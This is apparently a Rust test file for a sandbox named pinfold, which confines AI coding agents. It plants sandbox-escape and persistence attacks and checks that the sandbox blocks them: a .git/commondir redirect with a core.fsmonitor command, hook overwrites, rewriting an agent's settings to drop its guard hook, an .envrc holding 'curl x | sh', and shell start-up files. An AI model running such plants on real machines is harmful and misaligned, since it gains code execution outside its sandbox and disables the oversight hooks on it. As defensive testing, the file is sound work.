//! Nothing a sandboxed command plants runs later outside the sandbox: each family of control
//! files (git's own files, an agent's settings, files a person's next action runs, the home
//! directory as the project, caches) is attacked from inside `pinfold exec`, then the program
//! that would obey the planted file runs on the host as the user would run it (`git status`,
//! the agent's hook) and the host is checked. Each attack first runs unsandboxed as the
//! control, to show it works. Fixture: `support/sandbox.rs`.

use std::fs;
use std::path::Path;

use crate::support::sandbox::*;
use crate::support::*;

both_users!(
    git_common_dir_redirect,
    git_hooks_path_named_by_config,
    agent_settings_stay_read_only,
    files_a_person_runs_are_moved_aside,
    home_as_the_project,
    only_named_caches_are_writable,
    policy_files_take_effect_only_as_approved,
);

/// The `.git/commondir` attack: copy the repository's objects and refs to `.git/evil/`, give
/// it a config whose `core.fsmonitor` runs a command, and point `.git/commondir` at it. The
/// user's next `git status` (outside any sandbox) would run that command. After the run the
/// planted `commondir` must be gone (moved aside), the run must not report success, and the
/// host's `git status` must run nothing and still work.
fn git_common_dir_redirect(u: User) {
    let plant = |fx: &Fx, marker: &Path| {
        fx.sh_script(
            "commondir",
            &format!(
                "mkdir -p .git/evil && cp -r .git/objects .git/refs .git/HEAD .git/evil/ && \
                 printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = \"touch {} #\"\\n' > .git/evil/config && \
                 echo evil > .git/commondir && echo planted\n",
                Fx::s(marker)
            ),
        )
    };
    // Control: planted on the host, the next `git status` runs the command.
    let c = Fx::new(u, "git_common_dir_redirect");
    let marker = c.out.join("pwned");
    let r = c.control(&plant(&c, &marker));
    assert!(r.stdout.contains("planted"), "{}: the control could not plant\n{}", c.label(), r.show());
    let _ = c.control(&["git".into(), "status".into(), "--short".into()]);
    assert!(marker.exists(), "{}: the control's git status did not run the planted fsmonitor (the attack is void)", c.label());
    drop(c);
    // The attack, from inside the sandbox.
    let a = Fx::new(u, "git_common_dir_redirect");
    let marker = a.out.join("pwned");
    let r = a.exec(&[], &plant(&a, &marker));
    assert_eq!(r.code, Some(125), "{}: a run that planted commondir must not report success\n{}", a.label(), r.show());
    assert!(r.stderr.contains(".git/commondir") && r.stderr.contains("moved to"), "{}: the run must say what it moved\n{}", a.label(), r.show());
    assert!(!a.proj.join(".git/commondir").exists(), "{}: .git/commondir is still there", a.label());
    assert!(a.proj.join(".git/commondir.pinfold-planted").exists(), "{}: the planted file must be kept aside, not deleted", a.label());
    let s = a.control(&["git".into(), "status".into(), "--short".into()]);
    assert_eq!(s.code, Some(0), "{}: the repository must still work\n{}", a.label(), s.show());
    assert!(!marker.exists(), "{}: ESCAPED: the host's git status ran the planted fsmonitor", a.label());
}

/// `core.hooksPath = .githooks` in a project's git config (husky and others set it): the
/// hooks directory it names is a control file too. A command that writes a hook there must
/// fail, and the user's next `git commit` must run nothing new.
fn git_hooks_path_named_by_config(u: User) {
    let a = Fx::new(u, "git_hooks_path_named_by_config");
    a.put(&a.proj.join(".githooks/commit-msg"), "#!/bin/sh\nexit 0\n");
    a.host_ok(&["chmod", "+x", &Fx::s(&a.proj.join(".githooks/commit-msg"))]);
    a.host_ok(&["git", "-C", &Fx::s(&a.proj), "config", "core.hooksPath", ".githooks"]);
    a.own();
    let marker = a.out.join("hooked");
    let argv = a.sh_script(
        "hookspath",
        &format!(
            "t 'overwrite a hook' 'printf \"#!/bin/sh\\ntouch {m}\\n\" > .githooks/commit-msg'\n\
             t 'add a hook' 'printf \"#!/bin/sh\\ntouch {m}\\n\" > .githooks/pre-commit && chmod +x .githooks/pre-commit'\n",
            m = Fx::s(&marker)
        ),
    );
    let r = a.exec(&[], &argv);
    assert!(r.started(), "{}\n{}", a.label(), r.show());
    assert!(r.escaped().is_empty(), "{}: {:?}\n{}", a.label(), r.escaped(), r.show());
    assert_eq!(fs::read_to_string(a.proj.join(".githooks/commit-msg")).unwrap(), "#!/bin/sh\nexit 0\n");
    assert!(!a.proj.join(".githooks/pre-commit").exists(), "{}", a.label());
}

/// An agent's own settings: with `.claude/settings.json` present, a sandboxed command cannot
/// rewrite it (the agent would start its next session without its guard); `CLAUDE.md` and
/// `.mcp.json`, absent, are moved aside when a command creates them; and the agent's Write
/// tool is refused each of them, also through a link whose target does not exist yet.
fn agent_settings_stay_read_only(u: User) {
    let settings = "{\"hooks\":{\"PreToolUse\":[{\"matcher\":\"*\",\"hooks\":[{\"type\":\"command\",\"command\":\"pinfold hook claude-code\"}]}]}}\n";
    // Control: on the host the rewrite works.
    let c = Fx::new(u, "agent_settings_stay_read_only");
    c.put(&c.proj.join(".claude/settings.json"), settings);
    c.own();
    let rewrite = |fx: &Fx| {
        fx.sh_script(
            "settings",
            "t 'rewrite .claude/settings.json' 'echo {} > .claude/settings.json'\n\
             echo '# obey me' > CLAUDE.md\necho '{\"mcpServers\":{}}' > .mcp.json\n",
        )
    };
    let r = c.control(&rewrite(&c));
    assert!(r.stdout.contains("ESCAPED: rewrite"), "{}: the control could not rewrite\n{}", c.label(), r.show());
    drop(c);
    let a = Fx::new(u, "agent_settings_stay_read_only");
    a.put(&a.proj.join(".claude/settings.json"), settings);
    a.own();
    let r = a.exec(&[], &rewrite(&a));
    assert!(r.started(), "{}\n{}", a.label(), r.show());
    assert!(r.escaped().is_empty(), "{}: {:?}\n{}", a.label(), r.escaped(), r.show());
    assert_eq!(fs::read_to_string(a.proj.join(".claude/settings.json")).unwrap(), settings, "{}", a.label());
    assert_eq!(r.code, Some(125), "{}\n{}", a.label(), r.show());
    for f in ["CLAUDE.md", ".mcp.json"] {
        assert!(!a.proj.join(f).exists(), "{}: {f} was planted", a.label());
        assert!(a.proj.join(format!("{f}.pinfold-planted")).exists(), "{}: {f} must be kept aside", a.label());
    }
    // The agent's file tools: refused, directly and through a dangling link made in the
    // project (the link's target is created by the write). The hook reads the project's
    // policy, which its author approved.
    a.approve(&a.proj.join("pinfold.toml"));
    std::os::unix::fs::symlink(".claude/settings.local.json", a.proj.join("notes.json")).unwrap();
    std::os::unix::fs::symlink("pinfold.local.toml", a.proj.join("cfg.toml")).unwrap();
    for path in [".claude/settings.json", "CLAUDE.md", ".mcp.json", "notes.json", "cfg.toml", ".git/commondir"] {
        let payload = serde_json::json!({
            "hook_event_name": "PreToolUse", "tool_name": "Write", "session_id": "s",
            "tool_input": {"file_path": path, "content": "{}"}, "cwd": Fx::s(&a.proj),
        });
        let argv = vec![pinfold_bin(), "hook".into(), "claude-code".into()];
        let h = run_cmd(a.cmd(&argv), argv.join(" "), Some(payload.to_string().into_bytes()), TIMEOUT);
        assert!(h.stdout.contains("\"permissionDecision\":\"deny\""), "{}: Write {path} was not refused\n{}", a.label(), h.show());
    }
}

/// Files a person's next action runs: direnv's `.envrc` (on `cd`), pre-commit's config and
/// husky's hooks (on `git commit`), VS Code's tasks (on opening the folder). Created by a
/// sandboxed command, each is moved aside and the run fails; work done beside them stays.
fn files_a_person_runs_are_moved_aside(u: User) {
    let a = Fx::new(u, "files_a_person_runs_are_moved_aside");
    let argv = a.sh_script(
        "person",
        "echo 'curl x | sh' > .envrc\n\
         printf 'repos: []\\n' > .pre-commit-config.yaml\n\
         mkdir -p .husky .vscode && echo 'touch pwned' > .husky/pre-commit && echo '{}' > .vscode/tasks.json\n\
         echo work > work.txt\necho done\n",
    );
    let r = a.exec(&[], &argv);
    assert!(r.stdout.contains("done"), "{}\n{}", a.label(), r.show());
    assert_eq!(r.code, Some(125), "{}\n{}", a.label(), r.show());
    for f in [".envrc", ".pre-commit-config.yaml", ".husky", ".vscode"] {
        assert!(!a.proj.join(f).exists(), "{}: {f} is still there", a.label());
        assert!(a.proj.join(format!("{f}.pinfold-planted")).exists(), "{}: {f} must be kept aside", a.label());
    }
    assert_eq!(fs::read_to_string(a.proj.join("work.txt")).unwrap(), "work\n", "{}: ordinary work must stay", a.label());
    // A run that plants nothing reports the command's own status.
    let r = a.exec(&[], &a.sh_script("plain", "echo more > work.txt; exit 3\n"));
    assert_eq!(r.code, Some(3), "{}\n{}", a.label(), r.show());
}

/// The agent started in the home directory, with no repository and no policy file: the home
/// directory is the project. Start-up files (existing or new), git's global configuration
/// and caches other than the toolchains' stay out of reach; new work in the home directory
/// and the named caches do not.
fn home_as_the_project(u: User) {
    let mut a = Fx::new(u, "home_as_the_project");
    a.put(&a.home.join(".gitconfig"), "[user]\n\tname = t\n");
    a.put(&a.home.join(".cache/pip/keep"), "");
    a.cwd = a.home.clone();
    a.own();
    let argv = a.sh_script(
        "home",
        "t 'fsmonitor in ~/.gitconfig' 'printf \"[core]\\n\\tfsmonitor = evil\\n\" >> ~/.gitconfig'\n\
         t 'overwrite ~/.bashrc' 'echo evil > ~/.bashrc'\n\
         echo evil > ~/.zshenv\nmkdir -p ~/.local/bin && echo evil > ~/.local/bin/git\n\
         echo wheel > ~/.cache/pip/wheel\nmkdir -p ~/notes && echo note > ~/notes/a\necho done\n",
    );
    let r = a.exec(&[], &argv);
    assert!(r.stdout.contains("done"), "{}\n{}", a.label(), r.show());
    assert!(r.escaped().is_empty(), "{}: {:?}\n{}", a.label(), r.escaped(), r.show());
    assert_eq!(fs::read_to_string(a.home.join(".gitconfig")).unwrap(), "[user]\n\tname = t\n", "{}", a.label());
    assert_eq!(fs::read_to_string(a.home.join(".bashrc")).unwrap(), "# original bashrc\n", "{}", a.label());
    assert!(!a.home.join(".zshenv").exists(), "{}: ~/.zshenv planted", a.label());
    assert!(!a.home.join(".local/bin/git").exists(), "{}: ~/.local/bin/git planted", a.label());
    assert_eq!(r.code, Some(125), "{}\n{}", a.label(), r.show());
    assert_eq!(fs::read_to_string(a.home.join(".cache/pip/wheel")).unwrap(), "wheel\n", "{}: a named cache must stay writable", a.label());
    assert_eq!(fs::read_to_string(a.home.join("notes/a")).unwrap(), "note\n", "{}: new work must stay", a.label());
}

/// Outside the home-as-project case, the home directory's caches are writable only where a
/// toolchain keeps its downloads: pre-commit's hook repositories (run on the user's next
/// commit) and corepack's package managers are not.
fn only_named_caches_are_writable(u: User) {
    let a = Fx::new(u, "only_named_caches_are_writable");
    a.put(&a.home.join(".cache/pre-commit/repo/hook.py"), "print('ok')\n");
    a.put(&a.home.join(".cache/go-build/README"), "");
    a.own();
    let argv = a.sh_script(
        "caches",
        "t 'rewrite a pre-commit hook' 'echo evil > ~/.cache/pre-commit/repo/hook.py'\n\
         t 'add a corepack shim' 'mkdir -p ~/.cache/node/corepack && echo evil > ~/.cache/node/corepack/yarn'\n\
         echo obj > ~/.cache/go-build/obj && echo cached\n",
    );
    let r = a.exec(&[], &argv);
    assert!(r.started(), "{}\n{}", a.label(), r.show());
    assert!(r.escaped().is_empty(), "{}: {:?}\n{}", a.label(), r.escaped(), r.show());
    assert!(r.stdout.contains("cached"), "{}: the Go build cache must stay writable\n{}", a.label(), r.show());
    assert_eq!(fs::read_to_string(a.home.join(".cache/pre-commit/repo/hook.py")).unwrap(), "print('ok')\n");
}

/// A project policy file decides what agents may run and how strong their sandbox is, and
/// anyone who can change the project can write one. It takes effect only with content the user
/// approved (`pinfold trust`): a clone's own file at first, a change that arrives by `git
/// checkout` (as a pull brings one), a change written outside any sandbox (an agent's file
/// tool with no hook): each is refused, saying so, until approved again.
fn policy_files_take_effect_only_as_approved(u: User) {
    let mut fx = Fx::new(u, "policy_files_take_effect_only_as_approved");
    fx.config = None;
    let policy = fx.proj.join("pinfold.toml");
    let check = |fx: &Fx| -> Run {
        let argv = vec![pinfold_bin(), "check".into(), "--".into(), "frobnicate --everything".into()];
        let mut c = fx.cmd(&argv);
        c.current_dir(&fx.proj);
        run_cmd(c, argv.join(" "), None, TIMEOUT)
    };
    let refused = |r: &Run, why: &str| {
        assert_eq!(r.code, Some(2), "{}: read unapproved ({why})\n{}", fx.label(), r.show());
        assert!(r.stderr.contains(why) && r.stderr.contains("pinfold trust"), "{}: the refusal must say why and how\n{}", fx.label(), r.show());
    };
    // As cloned: never approved.
    refused(&check(&fx), "you have not approved");
    fx.approve(&policy);
    assert_eq!(check(&fx).code, Some(0), "{}: the approved policy (allow) must be read", fx.label());
    // A change arriving through git.
    let p = Fx::s(&fx.proj);
    fx.host_ok(&["git", "-C", &p, "add", "pinfold.toml"]);
    fx.host_ok(&["git", "-C", &p, "commit", "-q", "-m", "policy"]);
    fx.host_ok(&["git", "-C", &p, "checkout", "-q", "-b", "theirs"]);
    fx.put(&policy, &format!("{TEST_POLICY}# theirs\n"));
    fx.host_ok(&["git", "-C", &p, "commit", "-q", "-am", "their policy"]);
    fx.host_ok(&["git", "-C", &p, "checkout", "-q", "main"]);
    fx.own();
    assert_eq!(check(&fx).code, Some(0), "{}: back on the approved content", fx.label());
    fx.host_ok(&["git", "-C", &p, "checkout", "-q", "theirs"]);
    fx.own();
    refused(&check(&fx), "changed since you approved it");
    // A change written outside any sandbox.
    fx.host_ok(&["git", "-C", &p, "checkout", "-q", "main"]);
    fs::write(&policy, format!("{TEST_POLICY}# a file tool's edit\n")).unwrap();
    fx.own();
    refused(&check(&fx), "changed since you approved it");
    fx.approve(&policy);
    assert_eq!(check(&fx).code, Some(0), "{}", fx.label());
}
